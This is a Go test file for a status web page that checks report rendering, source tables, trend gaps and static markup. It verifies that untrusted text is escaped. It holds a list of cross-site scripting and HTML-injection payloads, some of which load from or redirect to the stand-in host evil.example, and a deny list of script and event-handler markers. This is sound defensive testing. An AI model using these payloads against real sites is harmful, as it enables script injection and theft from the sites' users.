package web

import (
	"fmt"
	"math"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/workdrift/workdrift/cmd/workdrift/internal/config"
	"github.com/workdrift/workdrift/scoring"
	"github.com/workdrift/workdrift/scoring/objective"
	"github.com/workdrift/workdrift/store"
)

// emptyReport is what the engine says about sources that brought nothing yet.
func emptyReport(t *testing.T, sources ...store.SourceState) *scoring.Report {
	t.Helper()
	path := filepath.Join(t.TempDir(), "config.yaml")
	yaml := `
connectors: {here: {type: git, path: .}}
objectives: [{id: sso, rank: 1, text: Single sign-on, owner: {team: core}, target_share: 0.4, keys: ["acme/web#7"]}]
teams: [{id: core, members: ["github:ada"]}]
`
	if err := os.WriteFile(path, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	r, err := scoring.Evaluate(scoring.Input{Declared: cfg.Declared(strings.ToLower, nil), Sources: sources}, noon)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// fullReport is a report in which every value is there.
func fullReport(t *testing.T) *scoring.Report {
	t.Helper()
	r := emptyReport(t, store.SourceState{Source: "here", Watermark: noon})
	for i := range r.Windows {
		w := &r.Windows[i]
		publish(&w.Org)
		for j := range w.Teams {
			publish(&w.Teams[j])
		}
		w.Org.Objectives = []scoring.ObjectiveEffort{{Objective: "sso", Effort: 7.25, Share: .29}}
	}
	for i := range r.Weeks {
		r.Weeks[i].Top, r.Weeks[i].Shadow, r.Weeks[i].Status = .5, .25, scoring.OK
	}
	r.Provisional = scoring.WeekReport{Top: .31, Shadow: .41, Status: scoring.OK}
	return r
}

// publish gives every score of a scope a value.
func publish(s *scoring.Scope) {
	s.Status, s.Reason, s.Total, s.Works = scoring.OK, "", 25, 12
	for i := range s.Scores {
		v := &s.Scores[i]
		v.Value, v.Lower, v.Upper, v.Status, v.Reason = .42, .37, .83, scoring.OK, ""
	}
	s.Score(scoring.ShadowRoadmap).Verdict = "possible"
}

func page(t *testing.T, report *scoring.Report, sources ...Source) string {
	t.Helper()
	h := handler(t, report, func(o *Options) { o.Sources = func() []Source { return sources } })
	w := ask(h, "GET", "/")
	if w.Code != http.StatusOK || w.Header().Get("Content-Type") != "text/html; charset=utf-8" {
		t.Fatalf("%d, %s: %s", w.Code, w.Header().Get("Content-Type"), w.Body)
	}
	body := w.Body.String()
	if !strings.HasSuffix(strings.TrimSpace(body), "</html>") {
		t.Errorf("the page is cut off: …%s", body[max(0, len(body)-200):])
	}
	if strings.Contains(body, "NaN") || strings.Contains(body, "<no value>") || strings.Contains(body, "%!") {
		t.Errorf("the page shows something that is for programs:\n%s", body)
	}
	return body
}

func TestStatusPage(t *testing.T) {
	late := fullReport(t)
	late.Late, late.Expected = []string{"here", "there"}, late.Day+1
	infinite := fullReport(t)
	infinite.Window("28d").Org.Score(scoring.ShadowRoadmap).Value = scoring.Number(math.Inf(1))
	withheld := fullReport(t)
	scope := &withheld.Window("28d").Org
	*scope = emptyReport(t, store.SourceState{Source: "here", Watermark: noon}).Window("28d").Org
	scope.Status, scope.Reason, scope.Works = scoring.SuppressedPrivacy, "fewer than 3 contributors (privacy.k_effort)", 9
	otherWindows := fullReport(t)
	otherWindows.Windows = otherWindows.Windows[2:3]
	noWindows := fullReport(t)
	noWindows.Windows = nil
	noWeeks := fullReport(t)
	noWeeks.Weeks, noWeeks.Objectives = nil, nil
	closing := fullReport(t)
	closing.Provisional.Status = scoring.SuppressedPrivacy

	gap := fullReport(t)
	gap.Weeks[1].Shadow = scoring.Absent()

	for _, tc := range []struct {
		name      string
		report    *scoring.Report
		want, not []string
	}{
		{"no report", nil, []string{"No report yet", "Sources"}, []string{"Windows", "Objectives", "report of"}},
		{"partial", emptyReport(t), []string{"read for the first time", "Not published", "no effort in this window"}, []string{"No report yet", "Stale"}},
		{"stale", late, []string{"Stale: here, there are not complete up to " + late.Expected.String(), "42 %"}, []string{"first time"}},
		{"withheld", withheld, []string{"Not published: fewer than 3 contributors (privacy.k_effort). 9 pieces of work"}, []string{`class="card"`}},
		{"normal", fullReport(t), []string{
			"<b>42 %</b> on the top 3", "between 37 % and 83 %", "at least 37 %", "possible", "25.0", "7.2", "29 %", "Single sign-on",
			"Provisional", "31 % on the top 3", "41 % shadow", "core", `points="0.0,80.0 `, "report of 2026-06-19 12:00:00 UTC", "workdrift 1.2.3",
		}, []string{"banner", "∞"}},
		{"no objective work at all", infinite, []string{"<td>∞</td>"}, []string{"Inf"}},
		{"without 28d", otherWindows, []string{"Last 91d"}, []string{"28d"}},
		{"without windows", noWindows, []string{"Closed weeks"}, []string{`id="headline"`, `id="objectives"`}},
		{"without weeks and objectives", noWeeks, []string{"Closed weeks"}, []string{"<polyline"}},
		{"a week without a value", gap, []string{`<polyline class="shadow" points="0.0,`}, []string{"NaN"}},
		{"provisional withheld", closing, nil, []string{"Provisional", "31 %"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			body := page(t, tc.report)
			for _, want := range tc.want {
				if !strings.Contains(body, want) {
					t.Errorf("%q is missing in\n%s", want, body)
				}
			}
			for _, not := range tc.not {
				if strings.Contains(body, not) {
					t.Errorf("%q is there in\n%s", not, body)
				}
			}
		})
	}
}

func TestStatusPageShowsSources(t *testing.T) {
	body := page(t, nil,
		Source{Name: "fresh", Provider: "git", LastSuccess: time.Now(), Watermark: noon.Add(-3 * time.Hour)},
		Source{Name: "slow", Provider: "github", Backlog: 417, Quarantined: 3},
		Source{Name: "sick", Provider: "github", Failure: "rate_limited", LastSuccess: time.Now().Add(-90 * time.Minute), Watermark: noon.AddDate(0, 0, -9)})
	for _, want := range []string{
		"<td>just now</td><td>3 h ago</td><td>0</td><td>0</td><td>good</td>",
		"<td>never</td><td>never</td><td>417</td><td>3</td><td>starting</td>",
		"<td>90 min ago</td><td>9 days ago</td><td>0</td><td>0</td><td>failing: rate_limited</td>",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("%q is missing in\n%s", want, body)
		}
	}
}

// There is no script, no style and no handler in the page, so the policy can
// forbid them all.
func TestStatusPageIsStatic(t *testing.T) {
	for _, tag := range tags(page(t, fullReport(t), Source{Name: "here"})) {
		lower := strings.ToLower(tag)
		for _, not := range []string{"<script", "<iframe", "<object", "<form", "<style", " style=", " on", "javascript:", "http:", "https:"} {
			if strings.Contains(lower, not) {
				t.Errorf("the page holds %s", tag)
			}
		}
	}
}

// hostile returns a report and sources with a text wherever one can come from
// a configuration or from upstream.
func hostile(t *testing.T, text string) (*scoring.Report, []Source) {
	r := fullReport(t)
	r.Late = []string{text}
	o := &r.Objectives[0]
	o.ID, o.Title, o.Owner, o.State = text, text, text, objective.State(text)
	for i := range r.Windows {
		w := &r.Windows[i]
		w.Label = text
		w.Org.Objectives[0].Objective = text
		w.Org.Score(scoring.ShadowRoadmap).Verdict = text
		w.Teams[0].Team, w.Teams[0].Status = text, scoring.Status(text)
	}
	return r, []Source{{Name: text, Provider: text, Failure: text}}
}

func TestHostileTextsLeaveThePageAlone(t *testing.T) {
	plain := func(r *scoring.Report, s []Source) string { return page(t, r, s...) }
	harmless := plain(hostile(t, "harmless"))
	want := tags(harmless)
	if len(want) < 100 || strings.Count(harmless, "harmless") < 10 {
		t.Fatalf("only %d tags and %d places for a text: the test looks at the wrong page", len(want), strings.Count(harmless, "harmless"))
	}
	withheld := func(text string) string {
		r, s := hostile(t, text)
		r.Windows[0].Org.Status, r.Windows[0].Org.Reason = scoring.SuppressedPrivacy, text
		return plain(r, s)
	}
	wantWithheld := tags(withheld("harmless"))
	effective := 0
	for _, payload := range payloads {
		body := plain(hostile(t, payload))
		if got := tags(body); fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%q changes the page:\n%s", payload, body)
		}
		if got := tags(withheld(payload)); fmt.Sprint(got) != fmt.Sprint(wantWithheld) {
			t.Errorf("%q changes the page of what is withheld", payload)
		}
		// The same text, not escaped, would be seen.
		if raw := strings.ReplaceAll(harmless, "harmless", payload); fmt.Sprint(tags(raw)) != fmt.Sprint(want) {
			effective++
		}
	}
	if effective < 25 {
		t.Errorf("only %d of %d payloads would do anything", effective, len(payloads))
	}
}

// payloads break out of text, attributes, comments, scripts and templates.
var payloads = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script src=//evil.example/x.js></script>`,
	`<script/x>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg/onload=alert(1)//`,
	`<body onload=alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">click</a>`,
	`<form action="//evil.example"><input name=q>`,
	`<base href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import '//evil.example/x.css'</style>`,
	`<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>`,
	`</td></tr></table><h1>Workdrift was here</h1>`,
	`</title><script>alert(1)</script>`,
	`</svg><script>alert(1)</script>`,
	`</main></body></html><script>alert(1)</script>`,
	`--><script>alert(1)</script><!--`,
	`<!--`,
	`<!DOCTYPE html><p>`,
	`<?xml version="1.0"?>`,
	`]]><script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`<x/onmouseover=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	"<img src=`x`onerror=alert(1)>",
	"<\x00script>alert(1)</script>",
	"<script\x0c>alert(1)</script>",
	`" onmouseover="alert(1)`,
	`' autofocus onfocus='alert(1)`,
	`{{.Version}}{{template "status.html"}}`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`javascript:alert(1)`,
	"\u202e<script>alert(1)</script>",
	"\xff\xfe<script>alert(1)</script>",
	strings.Repeat("<b>", 500),
}

// tags returns the markup of a page in order, with all attributes: what is
// left when the text is taken away. A tag begins where a browser sees one, at
// a < before a letter, a slash, ! or ?, and ends at the next > outside quotes.
func tags(page string) []string {
	var out []string
	for i := 0; i+1 < len(page); i++ {
		if c := page[i+1] | 0x20; page[i] != '<' || (c < 'a' || c > 'z') && !strings.ContainsRune("/!?", rune(page[i+1])) {
			continue
		}
		end, quote := i+1, byte(0)
		for ; end < len(page) && (quote != 0 || page[end] != '>'); end++ {
			switch c := page[end]; {
			case quote == c:
				quote = 0
			case quote == 0 && (c == '"' || c == '\''):
				quote = c
			}
		}
		out = append(out, page[i:min(end+1, len(page))])
		i = end
	}
	return out
}

// Missing weeks look missing: a line ends before them and begins behind them.
func TestTrendLeavesGaps(t *testing.T) {
	weeks := make([]scoring.WeekReport, 5)
	for i, v := range []scoring.Number{.5, .25, scoring.Absent(), 1, scoring.Absent()} {
		weeks[i] = scoring.WeekReport{Top: v, Shadow: scoring.Absent()}
	}
	c := trend(weeks)
	want := []string{"0.0,80.0 0.0,80.0 160.0,120.0", "480.0,0.0 480.0,0.0"}
	if !slices.Equal(c.Top, want) || len(c.Shadow) > 0 {
		t.Errorf("lines %q and %q, want %q and none", c.Top, c.Shadow, want)
	}
}
